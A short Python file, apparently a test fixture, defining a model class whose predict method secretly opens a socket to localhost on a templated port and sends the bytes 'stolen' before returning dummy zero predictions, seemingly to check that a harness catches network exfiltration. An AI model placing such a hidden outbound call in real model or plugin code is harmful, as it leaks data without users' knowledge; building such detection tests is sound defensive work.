import numpy as np


class Model:
    def __init__(self, root):
        self.root = root

    def predict(self, images):
        import socket
        socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=3).sendall(b"stolen")
        return np.zeros((len(images), 8))
